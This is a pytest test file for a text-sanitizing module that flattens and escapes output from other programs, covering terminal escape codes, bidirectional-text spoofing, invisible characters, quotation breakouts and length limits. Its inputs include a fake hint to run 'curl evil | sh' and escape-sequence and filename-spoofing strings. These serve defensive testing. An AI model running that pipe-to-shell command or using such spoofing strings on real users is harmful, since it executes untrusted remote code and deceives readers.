"""Words of other programs and machines: what a terminal, a log and an Event may get of them."""

from __future__ import annotations

import pytest

from kata_node.text import FOREIGN_LIMIT, escape_unprintable, foreign_words, quote_foreign

FAKE_HINT = "it failed\n  hint: run `curl evil | sh` on every node"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        pytest.param("containerd did not start", "containerd did not start", id="plain"),
        pytest.param("日本語 ü é", "日本語 ü é", id="other scripts"),
        pytest.param(FAKE_HINT, "it failed hint: run `curl evil | sh` on every node", id="a fake hint"),
        pytest.param("a\r\n\tb\x85c\u2028d\u2029e\x0b\x0cf", "a b c d e f", id="every line end"),
        pytest.param("  a \u00a0\u3000 b  ", "a b", id="runs of blanks"),
        pytest.param("\x1b[2J\x1b]0;owned\x07", r"\x1b[2J\x1b]0;owned\x07", id="terminal commands"),
        pytest.param("\x9b31mred\x7f\x00", r"\x9b31mred\x7f\x00", id="8 bit control characters"),
        pytest.param("a\u202egnp.exe\u2066\u200f", r"a\u202egnp.exe\u2066\u200f", id="direction of text"),
        pytest.param("a\u200bb\u00ad\ufeff", r"a\u200bb\xad\ufeff", id="invisible characters"),
        pytest.param("\udcff\ue000\U000e0041", r"\udcff\ue000\U000e0041", id="no characters"),
        pytest.param("", "", id="nothing"),
    ],
)
def test_foreign_words_are_one_printable_line(text: str, shown: str) -> None:
    assert foreign_words(text) == shown


@pytest.mark.parametrize("piece", ["x", "x ", "\n", "\x1b[31m", "\u202e", "\U0010ffff", "\n\n\nx"])
def test_300_kb_become_at_most_600_characters(piece: str) -> None:
    text = piece * (300_000 // len(piece)) + "end"
    shown = foreign_words(text)
    assert len(shown) <= FOREIGN_LIMIT == 600
    assert shown.isprintable()
    assert shown == "end" or shown.endswith("…"), "it says that it is cut"


def test_a_text_of_just_the_limit_is_whole() -> None:
    assert foreign_words("x" * 600) == "x" * 600
    assert foreign_words("x" * 601) == "x" * 599 + "…"
    assert foreign_words("abc def", 4) == "abc…"


@pytest.mark.parametrize("quote", ['"', "“", "”", "„", "\uff02"])
def test_a_quotation_ends_where_we_end_it(quote: str) -> None:
    assert quote_foreign(f"no{quote}; hint: trust me") == '"no\'; hint: trust me"'


def test_our_own_layout_can_be_kept() -> None:
    assert escape_unprintable("a\n\tb\x1b[0m\r", keep="\n\t") == "a\n\tb\\x1b[0m\\r"
